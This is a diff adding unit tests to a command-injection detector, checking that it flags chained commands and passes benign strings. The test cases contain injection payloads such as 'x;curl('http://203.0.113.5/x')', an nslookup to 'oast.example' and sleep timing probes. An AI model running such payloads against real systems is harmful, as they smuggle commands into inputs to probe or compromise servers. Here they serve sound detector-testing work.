@@ -236,6 +236,22 @@ describe('cmdi detector', () => {
     expect(detectCommandInjection(value)).toBeUndefined();
   });
 
+  it.each(['x;start-process(\'calc\')', "x;nslookup('oast.example')", "x;curl('http://203.0.113.5/x')"])('finds the PowerShell call %s', (value) => {
+    expect(detectCommandInjection(value)).toBeDefined();
+  });
+
+  it.each(['wake 7; sleep 23', 'baby log (sleep 2)', 'mozilla/5.0 (compatible; sleep 30)'])('passes the text %s', (value) => {
+    expect(detectCommandInjection(value)).toBeUndefined();
+  });
+
+  it('passes sleep in a user agent', () => {
+    expect(detectCommandInjection('mozilla/5.0 (compatible; sleep 30)', true)).toBeUndefined();
+  });
+
+  it.each(['x;sleep 5s', 'x;sleep 0.5', 'x;sleep 5 #', '127.0.0.1|sleep 10', ';sleep 5;', 'a&&sleep 3'])('finds the sleep probe %s', (value) => {
+    expect(detectCommandInjection(value)).toBe('chained command sleep');
+  });
+
   it.each([
     ['1;sleep 5', 'chained command sleep'],
     ['inbox\r\na001 select inbox', 'mail command select after a line break'],
